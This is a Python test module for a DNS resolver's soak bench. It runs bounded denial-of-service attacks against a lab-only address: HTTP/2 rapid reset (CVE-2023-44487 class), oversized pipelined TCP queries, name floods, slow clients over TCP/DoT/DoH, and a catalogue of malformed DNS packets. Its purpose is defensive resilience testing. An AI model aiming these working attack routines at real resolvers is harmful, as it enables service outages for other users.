"""Bounded versions of the attacks of issue 9 (../shared/attacks), for tools/bench/soak.py.

Every attack runs until its `stop` event is set or its own count is spent, whichever comes
first, and only against ADDR inside the soak's private network namespace. Each one
records what it did in a Counter (`stats`), which soak.py prints per phase.

Questions that must hang are asked for names under deadns.lab.: soak.py stops the lab's
"good" NSD and BlackHole binds both of that zone's server addresses, so nothing there ever
answers and each such resolution is held until resolver.query_timeout_ms."""
import base64
import collections
import os
import random
import select
import socket
import ssl
import struct
import sys
import threading
import time

import dns.edns
import dns.message

ADDR = "127.53.0.1"

# HTTP/2 frames and HPACK: the integration suite's raw client (one copy of that code)
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..",
                                "test", "integration"))
from blackhole import HANG_ZONE, HOLES, BlackHole  # noqa: E402,F401
from h2raw import (DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PREFACE,  # noqa: E402
                   RST_STREAM, SETTINGS, frame, hpack)

PING, ACK = 0x6, 0x1


def doh_get(sid, wire):
    path = "/dns-query?dns=" + base64.urlsafe_b64encode(wire).rstrip(b"=").decode()
    return frame(HEADERS, END_STREAM | END_HEADERS, sid,
                 hpack([(":method", "GET"), (":scheme", "https"), (":authority", ADDR), (":path", path)]))


def qwire(name, rdtype="A", qid=0, **kw):
    m = dns.message.make_query(name, rdtype, **kw)
    m.id = qid
    return m.to_wire(max_size=65535)


def tls_connect(ca, alpn, src, timeout=5.0, port=None):
    ctx = ssl.create_default_context(cafile=ca)   # the certificate's IP SAN is checked
    if alpn:
        ctx.set_alpn_protocols([alpn])
    port = port or (853 if alpn == "dot" else 443)
    raw = socket.create_connection((ADDR, port), timeout=timeout, source_address=(src, 0))
    try:
        return ctx.wrap_socket(raw, server_hostname=ADDR)
    except Exception:
        raw.close()
        raise


def drain(sock, seconds):
    """Reads (and discards) for up to `seconds`; returns (bytes, closed by the peer)."""
    sock.settimeout(0.1)
    got, end = 0, time.time() + seconds
    while time.time() < end:
        try:
            d = sock.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            continue
        except OSError:
            return got, True
        if not d:
            return got, True
        got += len(d)
    return got, False


def h2_frames(buf, stats, prefix):
    """Counts whole frames in buf by kind; returns the unconsumed rest."""
    while len(buf) >= 9:
        ln = int.from_bytes(buf[:3], "big")
        if len(buf) < 9 + ln:
            break
        t = buf[3]
        if t == GOAWAY:
            stats[prefix + "goaway"] += 1
        elif t == RST_STREAM:
            stats[prefix + "rst_from_server"] += 1
        elif t == HEADERS:
            stats[prefix + "headers_from_server"] += 1
        buf = buf[9 + ln:]
    return buf


# ---- 1. HTTP/2 rapid reset (CVE-2023-44487 class) -------------------------------------

def rapid_reset(stop, stats, ca, sources, conns_per_source=2, streams=1000, rounds=3, tag="rr"):
    """conns_per_source DoH/2 connections from each source address; each sends `streams`
    HEADERS (GET ?dns=<unique name that hangs>) each followed at once by RST_STREAM(CANCEL),
    then keeps reading until stopped; a connection the server ends (GOAWAY) is opened
    again, at most `rounds` times per slot."""
    def one(src, slot):
        for rnd in range(rounds):
            if stop.is_set():
                return
            try:
                s = tls_connect(ca, "h2", src)
            except OSError:
                stats["rr_connect_failed"] += 1
                time.sleep(0.5)
                continue
            stats["rr_connections"] += 1
            try:
                s.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
                batch, sid = b"", 1
                for i in range(streams):
                    if stop.is_set():
                        break
                    name = "%s-%d-%d-%d-%d.%s" % (tag, os.getpid(), slot, rnd, i, HANG_ZONE)
                    batch += doh_get(sid, qwire(name)) + frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
                    sid += 2
                    stats["rr_streams_reset"] += 1
                    if len(batch) > 32000:
                        s.sendall(batch)
                        batch = b""
                if batch:
                    s.sendall(batch)
                buf = b""
                s.settimeout(0.2)
                while not stop.is_set():
                    try:
                        d = s.recv(65536)
                    except (socket.timeout, ssl.SSLWantReadError):
                        continue
                    if not d:
                        break
                    buf = h2_frames(buf + d, stats, "rr_")
            except OSError:
                pass
            finally:
                stats["rr_closed"] += 1
                s.close()
    threads = [threading.Thread(target=one, args=(src, k), daemon=True)
               for k, src in enumerate(s for s in sources for _ in range(conns_per_source))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


# ---- 2. one address pipelining large queries over TCP ---------------------------------

def big_queries(stop, stats, src, conns=16, pipe=32, one_name=True, tag="bq"):
    """`conns` TCP connections from `src`, each pipelining `pipe` queries of ~64 KiB (an
    EDNS option of 65,000 bytes) for names that hang: all for one name (they coalesce on
    one resolution) or each for its own name. Replies are read and counted until stopped."""
    key = "bq1_" if one_name else "bqn_"
    socks = []
    for c in range(conns):
        if stop.is_set():
            break
        try:
            s = socket.create_connection((ADDR, 53), timeout=5, source_address=(src, 0))
        except OSError:
            stats[key + "connect_failed"] += 1
            continue
        out = b""
        for i in range(pipe):
            name = ("%s-one.%s" % (tag, HANG_ZONE)) if one_name else \
                "%s-%d-%d-%d.%s" % (tag, os.getpid(), c, i, HANG_ZONE)
            w = qwire(name, qid=(c * pipe + i) & 0xFFFF, use_edns=0,
                      options=[dns.edns.GenericOption(65001, b"x" * 65000)])
            out += struct.pack(">H", len(w)) + w
        try:
            s.sendall(out)
            stats[key + "queries_sent"] += pipe
            stats[key + "bytes_sent"] += len(out)
        except OSError:
            stats[key + "send_failed"] += 1
        s.setblocking(False)
        socks.append(s)
    stats[key + "connections"] += len(socks)
    bufs = {s: b"" for s in socks}
    while socks and not stop.is_set():
        r, _, _ = select.select(socks, [], [], 0.2)
        for s in r:
            try:
                d = s.recv(65536)
            except OSError:
                d = b""
            if not d:
                stats[key + "closed_by_server"] += 1
                socks.remove(s)
                s.close()
                continue
            b = bufs[s] + d
            while len(b) >= 2 and len(b) >= 2 + struct.unpack(">H", b[:2])[0]:
                ln = struct.unpack(">H", b[:2])[0]
                rc = b[2 + 3] & 0xF if ln >= 4 else -1
                stats[key + "reply_rcode_%d" % rc] += 1
                b = b[2 + ln:]
            bufs[s] = b
    for s in socks:
        s.close()


# ---- 3. unique-name flood at a bounded rate ------------------------------------------

def flood_file(path, count, seed=7):
    """Unique names: 4 of 5 below the lab's NSEC3 wildcard (each one upstream query), 1 of 5
    under the black hole (held until the query timeout)."""
    r = random.Random(seed)
    with open(path, "w") as f:
        for i in range(count):
            x = "%08x" % r.getrandbits(32)
            if i % 5 == 4:
                f.write("f%d-%s.%s A\n" % (i, x, HANG_ZONE))
            else:
                f.write("f%d-%s.wild.example. A\n" % (i, x))


# ---- 4. slow clients -----------------------------------------------------------------

def slow_clients(stop, stats, ca, sources, per_kind=16):
    """From each source: per_kind connections each of TCP, DoT and DoH/1.1 sending one byte
    a second (a query or request that never completes), and of DoH/2 sending one PING a
    second. Counts the ones the server has closed when stopped."""
    kinds = ("tcp", "dot", "doh1", "doh2")
    msg = {"tcp": b"\x00\x40\x12\x34\x01\x00" + b"\x00" * 100,
           "dot": b"\x00\x40\x12\x34\x01\x00" + b"\x00" * 100,
           "doh1": b"GET /dns-query?dns=AAAA HTTP/1.1\r\nHost: x\r\n" + b"X: y\r\n" * 100}
    socks = []
    for src in sources:
        for kind in kinds:
            for _ in range(per_kind):
                if stop.is_set():
                    break
                try:
                    if kind == "tcp":
                        s = socket.create_connection((ADDR, 53), timeout=5, source_address=(src, 0))
                    elif kind == "dot":
                        s = tls_connect(ca, "dot", src)
                    elif kind == "doh1":
                        s = tls_connect(ca, "http/1.1", src)
                    else:
                        s = tls_connect(ca, "h2", src)
                        s.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
                    socks.append([kind, s, False])
                    stats["slow_%s_opened" % kind] += 1
                except OSError:
                    stats["slow_%s_refused" % kind] += 1
    k = 0
    while not stop.wait(1.0):
        for ent in socks:
            kind, s, closed = ent
            if closed:
                continue
            try:
                if kind == "doh2":
                    s.sendall(frame(PING, 0, 0, b"slowping"))
                else:
                    s.sendall(msg[kind][k % len(msg[kind]):k % len(msg[kind]) + 1])
            except OSError:
                ent[2] = True
        k += 1
    for ent in socks:
        kind, s, closed = ent
        if not closed:
            try:
                s.setblocking(False)
                d = s.recv(65536)
                while d:       # DoH/2 acks our PINGs; the server may have sent GOAWAY and closed
                    d = s.recv(65536)
                closed = True
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            except OSError:
                closed = True
        stats["slow_%s_closed_by_server" % kind] += closed
        s.close()


# ---- 5. malformed DNS ----------------------------------------------------------------

def _hdr(qid=0x1234, flags=0x0100, qd=1, an=0, ns=0, ar=0):
    return struct.pack(">HHHHHH", qid, flags, qd, an, ns, ar)


def _qname(name="www.sec.lab."):
    return b"".join(bytes([len(p)]) + p.encode() for p in name.strip(".").split(".")) + b"\x00"


def _q(name="www.sec.lab.", t=1, **kw):
    return _hdr(**kw) + _qname(name) + struct.pack(">HH", t, 1)


def _opt(size=1232, flags=0, rdata=b""):
    return b"\x00" + struct.pack(">HHBBHH", 41, size, 0, 0, flags, len(rdata)) + rdata


MALFORMED = {
    "empty": lambda r: b"",
    "1 byte": lambda r: b"\x00",
    "truncated header": lambda r: _hdr()[:11],
    "header only": lambda r: _hdr(),
    "qdcount 0": lambda r: _hdr(qd=0),
    "qdcount 2": lambda r: _hdr(qd=2) + (_qname() + b"\x00\x01\x00\x01") * 2,
    "qdcount 65535": lambda r: _hdr(qd=65535) + _qname() + b"\x00\x01\x00\x01",
    "qname truncated": lambda r: _hdr() + b"\x03www\x03se",
    "qtype missing": lambda r: _hdr() + _qname(),
    "pointer loop": lambda r: _hdr() + b"\xc0\x0c\x00\x01\x00\x01",
    "pointer past end": lambda r: _hdr() + b"\xc0\xff\x00\x01\x00\x01",
    "label 64": lambda r: _hdr() + b"\x40" + b"a" * 64 + b"\x00\x00\x01\x00\x01",
    "label type 0x80": lambda r: _hdr() + b"\x81a\x00\x00\x01\x00\x01",
    "name 256": lambda r: _hdr() + (b"\x3f" + b"a" * 63) * 4 + b"\x00\x00\x01\x00\x01",
    "opcode 5": lambda r: _q(flags=0x2900),
    "opcode 15": lambda r: _q(flags=0x7900),
    "QR set": lambda r: _q(flags=0x8100),
    "trailing bytes": lambda r: _q() + os.urandom(r.randrange(1, 400)),
    "two OPT": lambda r: _q(ar=2) + _opt() + _opt(),
    "OPT bad rdlen": lambda r: _q(ar=1) + b"\x00\x00\x29\x04\xd0\x00\x00\x00\x00\xff\xff",
    "OPT 1000 options": lambda r: _q(ar=1) + _opt(rdata=b"".join(
        struct.pack(">HH", 65001, 4) + bytes(4) for _ in range(1000))),
    "bad COOKIE": lambda r: _q(ar=1) + _opt(rdata=struct.pack(">HH", 10, 3) + b"abc"),
    "ancount with record": lambda r: _q(an=1) + b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\x01\x02\x03\x04",
    "AXFR": lambda r: _q(t=252),
    "ANY": lambda r: _q(t=255),
    "class CH": lambda r: _hdr() + _qname("version.bind.") + b"\x00\x10\x00\x03",
    "random bytes": lambda r: os.urandom(r.randrange(1, 600)),
    "random after header": lambda r: _hdr() + os.urandom(r.randrange(1, 300)),
}


def malformed(stop, stats, src, rate=1000, limit=100000):
    """The kinds above round-robin over UDP (rate a second, at most `limit`), and every
    20th one also over a fresh TCP connection; replies are counted, not checked."""
    r = random.Random(53)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((src, 0))
    udp.setblocking(False)
    kinds = list(MALFORMED.items())
    n, t0 = 0, time.time()
    while not stop.is_set() and n < limit:
        name, make = kinds[n % len(kinds)]
        pkt = make(r)
        try:
            udp.sendto(pkt, (ADDR, 53))
            stats["bad_udp_sent"] += 1
        except OSError:
            stats["bad_udp_send_failed"] += 1
        if n % 20 == 0:
            try:
                with socket.create_connection((ADDR, 53), timeout=2, source_address=(src, 0)) as s:
                    s.sendall(struct.pack(">H", len(pkt) & 0xFFFF) + pkt)
                    s.settimeout(0.3)
                    try:
                        if s.recv(4096):
                            stats["bad_tcp_replies"] += 1
                    except OSError:
                        pass
                stats["bad_tcp_sent"] += 1
            except OSError:
                stats["bad_tcp_connect_failed"] += 1
        while True:
            try:
                udp.recv(65535)
                stats["bad_udp_replies"] += 1
            except OSError:
                break
        n += 1
        lag = n / rate - (time.time() - t0)
        if lag > 0:
            time.sleep(lag)
    udp.close()


# ---- the probe: another client's cache miss and cache hit ----------------------------

class Probe:
    """From its own address, every `period` seconds: a cache miss (a new name below the NSEC3
    wildcard wild.example.: needs an upstream query, answer 203.0.113.80) and a cache hit
    (www.sec.lab. A 192.0.2.1) over UDP, and the hit over TCP. Each must come within
    `timeout` with NOERROR and the right address."""

    def __init__(self, src, period=0.25, timeout=2.0):
        self.src, self.period, self.timeout = src, period, timeout
        self.counts = collections.Counter()
        self.failures = []            # (time, kind, what)
        self.latency = collections.defaultdict(list)
        self.stop = threading.Event()
        self.phase = "start"
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _ask(self, kind, name, want, tcp):
        import dns.query
        import dns.rcode
        q = dns.message.make_query(name, "A")
        t0 = time.time()
        try:
            if tcp:
                m = dns.query.tcp(q, ADDR, timeout=self.timeout, source=self.src)
            else:
                m = dns.query.udp(q, ADDR, timeout=self.timeout, source=self.src)
            got = sorted(rd.address for rr in m.answer for rd in rr if hasattr(rd, "address"))
            ok = m.rcode() == dns.rcode.NOERROR and got == [want]
            what = "%s %s" % (dns.rcode.to_text(m.rcode()), got)
        except Exception as e:  # noqa: BLE001  (a timeout or a refused connection is a failure)
            ok, what = False, type(e).__name__
        key = "%s/%s" % (self.phase, kind)
        self.counts[key + "/asked"] += 1
        self.counts["all/%s/asked" % kind] += 1
        self.latency[kind].append(time.time() - t0)
        if not ok:
            self.counts[key + "/failed"] += 1
            self.counts["all/%s/failed" % kind] += 1
            self.failures.append((time.time(), self.phase, kind, name, what))

    def _run(self):
        i = 0
        while not self.stop.wait(self.period):
            i += 1
            self._ask("miss", "probe%d-%d.wild.example." % (os.getpid(), i), "203.0.113.80", False)
            self._ask("hit", "www.sec.lab.", "192.0.2.1", False)
            if i % 2 == 0:
                self._ask("hit-tcp", "www.sec.lab.", "192.0.2.1", True)

    def start(self):
        self.thread.start()

    def close(self):
        self.stop.set()
        self.thread.join(10)
